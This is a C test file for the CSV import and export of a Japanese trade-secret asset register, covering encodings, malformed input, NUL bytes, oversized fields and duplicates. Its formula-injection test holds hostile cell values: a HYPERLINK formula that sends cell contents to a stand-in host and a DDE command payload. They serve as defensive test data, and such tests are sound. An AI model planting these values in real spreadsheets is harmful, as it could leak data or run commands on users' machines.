/* test-csv.c — the asset register to and from CSV
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "io/mamori-asset-csv.h"
#include "test-utils.h"

static MamoriStore *
new_workspace (const char *name)
{
  g_autofree char *path = mamori_test_workspace_path (name);
  g_autoptr(GError) error = NULL;
  MamoriStore *store = mamori_store_open (path, MAMORI_STORE_OPEN_CREATE, &error);

  g_assert_no_error (error);
  return store;
}

static MamoriAssetImport *
import_text (const char *text)
{
  g_autoptr(GError) error = NULL;
  MamoriAssetImport *import = mamori_asset_import_new ((const guint8 *) text, strlen (text), &error);

  g_assert_no_error (error);
  return import;
}

static char *
fixture_text (const char *name)
{
  g_autofree char *path = mamori_test_fixture_path (name);
  g_autoptr(GError) error = NULL;
  char *text = NULL;

  g_file_get_contents (path, &text, NULL, &error);
  g_assert_no_error (error);
  return text;
}

static MamoriAsset *
asset_named (MamoriStore *store,
             const char  *name)
{
  g_autoptr(GArray) ids = g_array_new (FALSE, FALSE, sizeof (gint64));
  guint count = mamori_store_count_assets (store);

  for (gint64 id = 1; id <= (gint64) count + 100; id++)
    {
      g_autoptr(MamoriAsset) asset = mamori_store_dup_asset (store, id, NULL);

      if (asset != NULL && g_strcmp0 (mamori_asset_get_name (asset), name) == 0)
        return g_steal_pointer (&asset);
    }

  g_error ("no asset named %s", name);
}

/* Japanese text, quotes, commas and line breaks survive export and import. */
static void
test_round_trip (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("source.mamori");
  g_autoptr(MamoriStore) copy = new_workspace ("copy.mamori");
  g_autoptr(MamoriAsset) asset = mamori_asset_new ();
  g_autoptr(MamoriAsset) plain = mamori_asset_new ();
  g_autoptr(MamoriAsset) unnamed = mamori_asset_new ();
  g_autoptr(MamoriAsset) back = NULL;

  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GError) error = NULL;
  const guint8 *data;
  gsize length;
  guint count;

  g_object_set (asset,
                "name", "金型図面 \"A\"型, 改訂版",
                "category", MAMORI_ASSET_CATEGORY_MANUFACTURING,
                "form", MAMORI_ASSET_FORM_PAPER,
                "storage", "本社2F 書庫、施錠",
                "department", "技術部",
                "responsible", "山田 太郎",
                "access", "設計課のみ",
                "entrusted", TRUE,
                "notes", "1行目\n2行目, カンマ入り\n\"引用\"",
                "rating-value", 3,
                "rating-competition", 2,
                "class-override", 2,
                "override-reason", "顧客指定",
                "strategy", MAMORI_STRATEGY_PATENT,
                "marked", TRUE,
                "pledges-signed", TRUE,
                "created", "2024-04-01T00:00:00Z",
                NULL);
  g_object_set (plain, "name", "営業資料", NULL);
  /* An asset not yet named is part of the register too. */
  g_object_set (unnamed, "storage", "倉庫の棚", NULL);
  mamori_store_add_asset (store, asset, &error);
  mamori_store_add_asset (store, plain, &error);
  mamori_store_add_asset (store, unnamed, &error);
  g_assert_true (mamori_store_set_measure_adopted (store, asset, "employees-pledges", TRUE, &error));

  bytes = mamori_asset_export (store, NULL, MAMORI_CSV_ENCODING_UTF8_BOM, &error);
  g_assert_no_error (error);
  data = g_bytes_get_data (bytes, &length);

  /* Excel needs the byte-order mark to read UTF-8. */
  g_assert_cmpuint (data[0], ==, 0xEF);
  g_assert_cmpuint (data[1], ==, 0xBB);
  g_assert_cmpuint (data[2], ==, 0xBF);

  import = mamori_asset_import_new (data, length, &error);
  g_assert_no_error (error);
  g_assert_cmpint (mamori_asset_import_get_format (import), ==, MAMORI_CSV_FORMAT_MAMORI);
  g_assert_cmpint (mamori_asset_import_get_encoding (import), ==, MAMORI_CSV_ENCODING_UTF8_BOM);
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 3);
  g_assert_true (mamori_asset_import_run (import, copy, &count, &problems, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (count, ==, 3);

  back = asset_named (copy, "");
  g_assert_cmpstr (mamori_asset_get_storage (back), ==, "倉庫の棚");
  g_clear_object (&back);
  back = asset_named (copy, "金型図面 \"A\"型, 改訂版");
  g_assert_cmpint (mamori_asset_get_category (back), ==, MAMORI_ASSET_CATEGORY_MANUFACTURING);
  g_assert_cmpint (mamori_asset_get_form (back), ==, MAMORI_ASSET_FORM_PAPER);
  g_assert_cmpstr (mamori_asset_get_storage (back), ==, "本社2F 書庫、施錠");
  g_assert_cmpstr (mamori_asset_get_responsible (back), ==, "山田 太郎");
  g_assert_true (mamori_asset_get_entrusted (back));
  g_assert_cmpstr (mamori_asset_get_notes (back), ==, "1行目\n2行目, カンマ入り\n\"引用\"");
  g_assert_cmpint (mamori_asset_get_class_auto (back), ==, 3);
  g_assert_cmpint (mamori_asset_get_class_override (back), ==, 2);
  g_assert_cmpstr (mamori_asset_get_override_reason (back), ==, "顧客指定");
  g_assert_cmpint (mamori_asset_get_strategy (back), ==, MAMORI_STRATEGY_PATENT);
  g_assert_cmpstr (mamori_asset_get_created (back), ==, "2024-04-01T00:00:00Z");
  {
    MamoriSecretFacts facts;
    int ratings[MAMORI_N_VIEWPOINTS];

    mamori_asset_get_secret_facts (back, &facts);
    g_assert_true (facts.marked);
    g_assert_false (facts.access_restricted);
    g_assert_true (facts.pledges_signed);
    mamori_asset_get_ratings (back, ratings);
    g_assert_cmpint (ratings[0], ==, 3);
    g_assert_cmpint (ratings[1], ==, 2);
    g_assert_cmpint (ratings[2], ==, MAMORI_RATING_UNRATED);
  }
}

static void
test_cp932 (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("sjis.mamori");
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(MamoriAsset) asset = NULL;
  g_autoptr(GBytes) exported = NULL;
  g_autoptr(GError) error = NULL;
  const char *utf8 = "資産名,カテゴリ,形態,保管場所,漏えい時の競争力低下\r\n"
                     "顧客リスト（①番）,顧客情報,電子データ,営業サーバー,高\r\n"
                     "～価格表～,価格情報,紙,金庫,中\r\n";
  g_autofree char *sjis = NULL;
  gsize sjis_length = 0;
  guint count;

  /* As Excel writes "CSV (comma delimited)": CP932, with its own ～ and ①. */
  sjis = g_convert (utf8, -1, "CP932", "UTF-8", NULL, &sjis_length, &error);
  g_assert_no_error (error);

  import = mamori_asset_import_new ((const guint8 *) sjis, sjis_length, &error);
  g_assert_no_error (error);
  g_assert_cmpint (mamori_asset_import_get_encoding (import), ==, MAMORI_CSV_ENCODING_CP932);
  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (count, ==, 2);
  asset = asset_named (store, "顧客リスト（①番）");
  g_assert_cmpint (mamori_asset_get_category (asset), ==, MAMORI_ASSET_CATEGORY_CUSTOMER);
  g_assert_cmpint (mamori_asset_get_class (asset), ==, 3);
  g_clear_object (&asset);
  asset = asset_named (store, "～価格表～");
  g_assert_cmpint (mamori_asset_get_form (asset), ==, MAMORI_ASSET_FORM_PAPER);

  /* And back out as CP932. */
  exported = mamori_asset_export (store, NULL, MAMORI_CSV_ENCODING_CP932, &error);
  g_assert_no_error (error);
  {
    gsize length;
    const char *data = g_bytes_get_data (exported, &length);
    g_autofree char *again = g_convert (data, length, "UTF-8", "CP932", NULL, NULL, &error);

    g_assert_no_error (error);
    g_assert_nonnull (strstr (again, "顧客リスト（①番）"));
  }

  /* A character Shift_JIS does not have is refused, naming its line. */
  g_clear_object (&asset);
  asset = mamori_asset_new ();
  mamori_asset_set_name (asset, "𠮷野家の取引記録");
  mamori_store_add_asset (store, asset, &error);
  g_clear_pointer (&exported, g_bytes_unref);
  exported = mamori_asset_export (store, NULL, MAMORI_CSV_ENCODING_CP932, &error);
  g_assert_null (exported);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_ENCODING);
  /* Sorted by name (code point order), the header first: line 4. */
  g_assert_nonnull (strstr (error->message, "Line 4"));
}

static void
test_ipa_headers (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("ipa.mamori");
  g_autofree char *one_row = fixture_text ("ipa_risk_sheet_ledger_header.csv");
  g_autofree char *two_rows = fixture_text ("ipa_risk_sheet_ledger_header_2row.csv");
  g_autofree char *file = NULL;
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(MamoriAsset) asset = NULL;
  g_autoptr(GError) error = NULL;
  const char *row = "営業,顧客名簿,年1回更新,営業部,営業部,社内サーバー,有,,,3,2,2,2,5年,2024/4/1\n";
  guint count;

  /* The one-row header. */
  import = import_text (one_row);
  g_assert_cmpint (mamori_asset_import_get_format (import), ==, MAMORI_CSV_FORMAT_IPA);
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 0);
  g_assert_cmpint (mamori_asset_import_get_mapping (import, 1), ==, MAMORI_CSV_FIELD_NAME);
  g_assert_cmpint (mamori_asset_import_get_mapping (import, 9), ==, MAMORI_CSV_FIELD_RATING_COMPETITION);
  g_assert_cmpint (mamori_asset_import_get_mapping (import, 10), ==, MAMORI_CSV_FIELD_IGNORE);
  g_clear_pointer (&import, mamori_asset_import_free);

  /* The two-row header, as Excel writes merged group cells, with a row. */
  file = g_strconcat (two_rows, row, NULL);
  import = import_text (file);
  g_assert_cmpint (mamori_asset_import_get_format (import), ==, MAMORI_CSV_FORMAT_IPA);
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 1);
  g_assert_cmpstr (mamori_asset_import_get_header (import, 6), ==, "個人情報");
  g_assert_cmpstr (mamori_asset_import_get_header (import, 9), ==, "機密性");
  g_assert_cmpstr (mamori_asset_import_get_header (import, 12), ==, "重要度");
  g_assert_cmpint (mamori_asset_import_get_mapping (import, 4), ==, MAMORI_CSV_FIELD_DEPARTMENT);
  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (count, ==, 1);

  asset = asset_named (store, "顧客名簿");
  g_assert_cmpstr (mamori_asset_get_access (asset), ==, "営業部");
  g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "社内サーバー");
  g_assert_cmpint (mamori_asset_get_class (asset), ==, 3);
  g_assert_cmpstr (mamori_asset_get_created (asset), ==, "2024-04-01T00:00:00Z");
  g_assert_nonnull (strstr (mamori_asset_get_notes (asset), "年1回更新"));
  g_assert_nonnull (strstr (mamori_asset_get_notes (asset), "業務分類: 営業"));
  g_assert_nonnull (strstr (mamori_asset_get_notes (asset), "個人情報: 有"));
  g_assert_nonnull (strstr (mamori_asset_get_notes (asset), "保存期限: 5年"));
}

static void
test_other_ledger (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("other.mamori");
  g_autofree char *text = fixture_text ("sample_ledger_cybersecurity_jp.csv");
  g_autoptr(MamoriAssetImport) import = import_text (text);
  g_autoptr(MamoriAsset) asset = NULL;
  g_autoptr(GError) error = NULL;
  guint count;

  g_assert_cmpint (mamori_asset_import_get_format (import), ==, MAMORI_CSV_FORMAT_OTHER);
  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (count, ==, 2);

  asset = asset_named (store, "顧客情報データベース");
  g_assert_cmpint (mamori_asset_get_form (asset), ==, MAMORI_ASSET_FORM_ELECTRONIC);
  g_assert_cmpstr (mamori_asset_get_department (asset), ==, "IT部門");
  g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "サーバールームA");
  g_assert_cmpint (mamori_asset_get_class (asset), ==, 3);
  g_assert_nonnull (strstr (mamori_asset_get_notes (asset), "保護措置: 二要素認証、定期バックアップ"));
  g_clear_object (&asset);
  asset = asset_named (store, "社内業務マニュアル");
  g_assert_cmpint (mamori_asset_get_form (asset), ==, MAMORI_ASSET_FORM_PAPER);
}

/* Tabs, UTF-16 (Excel's "Unicode text"), blank lines, CR line ends. */
static void
test_other_encodings (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("tabs.mamori");
  const char *tsv = "資産名\t保管場所\r\n\r\n試作品\t開発室\r\n";
  g_autofree char *utf16 = NULL;
  g_autoptr(GByteArray) with_bom = g_byte_array_new ();
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(MamoriAsset) asset = NULL;
  g_autoptr(GError) error = NULL;
  static const guint8 bom[] = { 0xFF, 0xFE };
  gsize utf16_length;
  guint count;

  utf16 = g_convert (tsv, -1, "UTF-16LE", "UTF-8", NULL, &utf16_length, &error);
  g_byte_array_append (with_bom, bom, 2);
  g_byte_array_append (with_bom, (const guint8 *) utf16, utf16_length);

  import = mamori_asset_import_new (with_bom->data, with_bom->len, &error);
  g_assert_no_error (error);
  g_assert_cmpint (mamori_asset_import_get_encoding (import), ==, MAMORI_CSV_ENCODING_UTF16);
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 1);
  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  asset = asset_named (store, "試作品");
  g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "開発室");
  g_clear_pointer (&import, mamori_asset_import_free);

  import = import_text ("資産名,保管場所\r旧Mac形式,倉庫\r");
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 1);
}

/* Bad files: a clear message with the line, and nothing written. */
static void
test_malformed (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("bad.mamori");
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(GPtrArray) problems = NULL;
  g_autoptr(GError) error = NULL;
  static const guint8 binary[] = { 0x89, 'P', 'N', 'G', 0x00, 0x01, 0xFF, 0xFE, 0x00 };
  const char *unclosed = "資産名,備考\n図面,\"閉じない\n次の行\n";
  const char *after_quote = "資産名\n\"A\"B\n";
  guint count = 99;

  /* A quote never closed: which line it opened on. */
  import = mamori_asset_import_new ((const guint8 *) unclosed, strlen (unclosed), &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_SYNTAX);
  g_assert_nonnull (strstr (error->message, "Line 2"));
  g_clear_error (&error);

  import = mamori_asset_import_new ((const guint8 *) after_quote, strlen (after_quote), &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_SYNTAX);
  g_clear_error (&error);

  import = mamori_asset_import_new (binary, sizeof binary, &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_ENCODING);
  g_clear_error (&error);

  import = mamori_asset_import_new ((const guint8 *) "", 0, &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_EMPTY);
  g_clear_error (&error);

  /* Rows with problems: every one reported with its line, none written —
   * not even the good rows. */
  import = import_text ("資産名,カテゴリ,漏えい時の競争力低下,登録日\n"
                        "良い行,顧客情報,高,2024-01-01\n"
                        "悪い分類,ラーメン,低,\n"
                        ",顧客情報,低,\n"
                        "悪い評価,顧客情報,とても高い,\n"
                        "悪い日付,顧客情報,中,2024-02-30\n"
                        "列が多い,顧客情報,中,,余分\n");
  g_assert_false (mamori_asset_import_run (import, store, &count, &problems, &error));
  g_assert_error (error, MAMORI_STORE_ERROR, MAMORI_STORE_ERROR_INVALID);
  g_assert_cmpuint (count, ==, 0);
  g_assert_cmpuint (problems->len, ==, 5);
  g_assert_cmpuint (((MamoriImportProblem *) g_ptr_array_index (problems, 0))->line, ==, 3);
  g_assert_nonnull (strstr (((MamoriImportProblem *) g_ptr_array_index (problems, 0))->message, "ラーメン"));
  g_assert_cmpuint (((MamoriImportProblem *) g_ptr_array_index (problems, 1))->line, ==, 4);
  g_assert_cmpuint (((MamoriImportProblem *) g_ptr_array_index (problems, 2))->line, ==, 5);
  g_assert_cmpuint (((MamoriImportProblem *) g_ptr_array_index (problems, 3))->line, ==, 6);
  g_assert_cmpuint (((MamoriImportProblem *) g_ptr_array_index (problems, 4))->line, ==, 7);
  g_assert_cmpuint (mamori_store_count_assets (store), ==, 0);
  g_clear_pointer (&problems, g_ptr_array_unref);
  g_clear_error (&error);
  g_clear_pointer (&import, mamori_asset_import_free);

  /* No column for the name: the user must choose one. */
  import = import_text ("列A,列B\nx,y\n");
  g_assert_false (mamori_asset_import_run (import, store, &count, &problems, &error));
  g_assert_cmpuint (problems->len, ==, 1);
  g_clear_pointer (&problems, g_ptr_array_unref);
  g_clear_error (&error);
  mamori_asset_import_set_mapping (import, 0, MAMORI_CSV_FIELD_NAME);
  g_assert_true (mamori_asset_import_run (import, store, &count, &problems, &error));
  g_assert_cmpuint (count, ==, 1);
}

/* A NUL inside UTF-16 or UTF-8 text: refused with its line, never cut
 * short there while the import says it worked. */
static void
test_nul (void)
{
  const char *rows = "資産名,保管場所\r\n図面,金庫\r\n試作品,開発室\r\n";
  /* The NUL goes just before the last row, which would be lost. */
  g_autoptr(GByteArray) bytes = mamori_test_utf16_with_nul (rows, "試作品");
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(GError) error = NULL;
  const char *second_row = strstr (rows, "試作品");

  import = mamori_asset_import_new (bytes->data, bytes->len, &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_NUL);
  g_assert_nonnull (strstr (error->message, "Line 3"));
  g_clear_error (&error);

  /* The same in UTF-8. */
  {
    g_autoptr(GByteArray) utf8 = g_byte_array_new ();

    g_byte_array_append (utf8, (const guint8 *) rows, (guint) (second_row - rows));
    g_byte_array_append (utf8, (const guint8 *) "", 1);
    g_byte_array_append (utf8, (const guint8 *) second_row, (guint) strlen (second_row));
    import = mamori_asset_import_new (utf8->data, utf8->len, &error);
    g_assert_null (import);
    g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_NUL);
    g_clear_error (&error);
  }

  /* And in Shift_JIS, as Japanese Excel saves CSV. */
  {
    g_autofree char *sjis = NULL;
    g_autoptr(GByteArray) cp932 = g_byte_array_new ();
    gsize sjis_length, sjis_offset;

    sjis = g_convert (rows, -1, "CP932", "UTF-8", NULL, &sjis_length, &error);
    g_assert_no_error (error);
    sjis_offset = (gsize) (strstr (sjis, "\n\x8e\x8e") - sjis) + 1;
    g_assert_cmpuint (sjis_offset, >, 1);
    g_byte_array_append (cp932, (const guint8 *) sjis, (guint) sjis_offset);
    g_byte_array_append (cp932, (const guint8 *) "", 1);
    g_byte_array_append (cp932, (const guint8 *) sjis + sjis_offset, (guint) (sjis_length - sjis_offset));
    import = mamori_asset_import_new (cp932->data, cp932->len, &error);
    g_assert_null (import);
    g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_NUL);
    g_assert_nonnull (strstr (error->message, "Line 3"));
    g_clear_error (&error);
  }

  /* A NUL at the very end hides nothing: every row is there. */
  g_clear_pointer (&bytes, g_byte_array_unref);
  bytes = mamori_test_utf16_with_nul (rows, NULL);
  import = mamori_asset_import_new (bytes->data, bytes->len, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 2);
}

/* A cell of megabytes (a wrong file, or a quote never closed) is refused
 * at once with its line, instead of filling the workspace and the packs. */
static void
test_huge_field (void)
{
  g_autoptr(GString) text = g_string_new ("資産名,備考\n図面,短い\n巨大,");
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < 10 * 1024 * 1024 / 16; i++)
    g_string_append (text, "0123456789abcdef");
  g_string_append (text, "\n");

  import = mamori_asset_import_new ((const guint8 *) text->str, text->len, &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "Line 3"));
  g_clear_error (&error);

  /* A quote opened and never closed, over megabytes: the line it opened. */
  g_string_assign (text, "資産名,備考\n図面,\"");
  for (guint i = 0; i < 2 * 1024 * 1024 / 16; i++)
    g_string_append (text, "0123456789\nabcd,");
  import = mamori_asset_import_new ((const guint8 *) text->str, text->len, &error);
  g_assert_null (import);
  g_assert_error (error, MAMORI_CSV_ERROR, MAMORI_CSV_ERROR_TOO_LARGE);
  g_assert_nonnull (strstr (error->message, "Line 2"));
  g_clear_error (&error);

  /* A long note, a whole procedure pasted in, is kept whole. */
  g_string_assign (text, "資産名,備考\n図面,");
  for (guint i = 0; i < 300000; i++)
    g_string_append (text, "長");
  import = mamori_asset_import_new ((const guint8 *) text->str, text->len, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (mamori_asset_import_get_n_rows (import), ==, 1);
}

/* Cells a spreadsheet would run (=HYPERLINK, DDE, @, +, -, tab, CR) are
 * exported as text, with an apostrophe first; our own export imports back
 * exactly as it was, apostrophes typed by the user included. */
static void
test_formula_injection (void)
{
  static const char * const hostile[] = {
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab first",
    "'=already quoted by the user",
    "''+two apostrophes",
    "'plain apostrophe",
    "普通の名前",
  };
  g_autoptr(MamoriStore) store = new_workspace ("injection.mamori");
  g_autoptr(MamoriStore) again = new_workspace ("injection-again.mamori");
  g_autoptr(MamoriAssetImport) import = NULL;
  g_autoptr(MamoriCsvDocument) document = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  guint count;

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autoptr(MamoriAsset) asset = mamori_asset_new ();
      g_autofree char *notes = g_strdup_printf ("%s notes", hostile[i]);

      g_object_set (asset, "name", hostile[i], "notes", notes, "storage", "=1+1", NULL);
      g_assert_cmpint (mamori_store_add_asset (store, asset, &error), >, 0);
      g_assert_no_error (error);
    }

  bytes = mamori_asset_export (store, NULL, MAMORI_CSV_ENCODING_UTF8_BOM, &error);
  g_assert_no_error (error);

  /* In the file, no cell starts a formula. */
  document = mamori_csv_parse (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), &error);
  g_assert_no_error (error);
  for (guint r = 1; r < document->records->len; r++)
    {
      MamoriCsvRecord *record = g_ptr_array_index (document->records, r);

      for (guint f = 0; f < record->n_fields; f++)
        g_assert_null (strchr ("=+-@\t\r", record->fields[f][0] != '\0' ? record->fields[f][0] : 'x'));
    }
  g_assert_nonnull (g_strstr_len (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), "'=HYPERLINK("));

  /* Back in: every cell as it was typed. */
  import = mamori_asset_import_new (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), &error);
  g_assert_no_error (error);
  g_assert_true (mamori_asset_import_run (import, again, &count, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (count, ==, G_N_ELEMENTS (hostile));
  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      /* A leading tab is trimmed by the import, as any whitespace is. */
      const char *expected = hostile[i][0] == '\t' ? hostile[i] + 1 : hostile[i];
      g_autoptr(MamoriAsset) asset = asset_named (again, expected);
      g_autofree char *notes = g_strdup_printf ("%s notes", expected);

      g_assert_cmpstr (mamori_asset_get_notes (asset), ==, notes);
      g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "=1+1");
    }

  /* Someone else's ledger is imported as written. */
  g_clear_pointer (&import, mamori_asset_import_free);
  import = import_text ("名称,保存場所\n'=x,'-y\n");
  g_assert_true (mamori_asset_import_run (import, again, &count, NULL, &error));
  g_clear_object (&again);
  again = new_workspace ("injection-again.mamori");
  {
    g_autoptr(MamoriAsset) asset = asset_named (again, "'=x");

    g_assert_cmpstr (mamori_asset_get_storage (asset), ==, "'-y");
  }
}

/* The same ledger imported twice: the rows already in the register (same
 * name and department) are counted, and skipped when the user says so. */
static void
test_import_twice (void)
{
  g_autoptr(MamoriStore) store = new_workspace ("twice.mamori");
  const char *ledger = "名称,管理部署\n金型図面,技術部\n顧客名簿,営業部\n金型図面,製造部\n";
  MamoriAssetImport *import = import_text (ledger);
  g_autoptr(GHashTable) keys = NULL;
  g_autoptr(MamoriClassScheme) scheme = mamori_store_dup_class_scheme (store);
  g_autoptr(GPtrArray) preview = NULL;
  g_autoptr(GError) error = NULL;
  guint count = 0, n_assets = 0, n_existing = 0;

  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  g_assert_cmpuint (count, ==, 3);
  mamori_asset_import_free (import);

  /* Again, with one row changed and one new. */
  import = import_text ("名称,管理部署\n 金型図面 ,技術部\n顧客名簿,営業部\n金型図面,製造部\n試作品,開発部\n");
  keys = mamori_store_dup_asset_keys (store, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (g_hash_table_size (keys), ==, 3);
  mamori_asset_import_set_existing (import, keys);
  {
    g_autofree MamoriCsvField *mapping = g_new0 (MamoriCsvField, mamori_asset_import_get_n_columns (import));

    for (guint i = 0; i < mamori_asset_import_get_n_columns (import); i++)
      mapping[i] = mamori_asset_import_get_mapping (import, i);
    preview = mamori_asset_import_preview (import, mapping, scheme, 20, NULL, &n_assets, &n_existing, NULL);
  }
  g_assert_cmpuint (n_assets, ==, 4);
  g_assert_cmpuint (n_existing, ==, 3);

  mamori_asset_import_set_skip_existing (import, TRUE);
  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (count, ==, 1);
  g_assert_cmpuint (mamori_store_count_assets (store), ==, 4);

  /* Not skipped when the user wants them twice. */
  mamori_asset_import_set_skip_existing (import, FALSE);
  g_assert_true (mamori_asset_import_run (import, store, &count, NULL, &error));
  g_assert_cmpuint (count, ==, 4);
  g_assert_cmpuint (mamori_store_count_assets (store), ==, 8);
  mamori_asset_import_free (import);
}

int
main (int   argc,
      char *argv[])
{
  mamori_test_init (&argc, &argv);

  g_test_add_func ("/csv/round-trip", test_round_trip);
  g_test_add_func ("/csv/cp932", test_cp932);
  g_test_add_func ("/csv/ipa-headers", test_ipa_headers);
  g_test_add_func ("/csv/other-ledger", test_other_ledger);
  g_test_add_func ("/csv/other-encodings", test_other_encodings);
  g_test_add_func ("/csv/malformed", test_malformed);
  g_test_add_func ("/csv/nul", test_nul);
  g_test_add_func ("/csv/huge-field", test_huge_field);
  g_test_add_func ("/csv/formula-injection", test_formula_injection);
  g_test_add_func ("/csv/import-twice", test_import_twice);

  return g_test_run ();
}
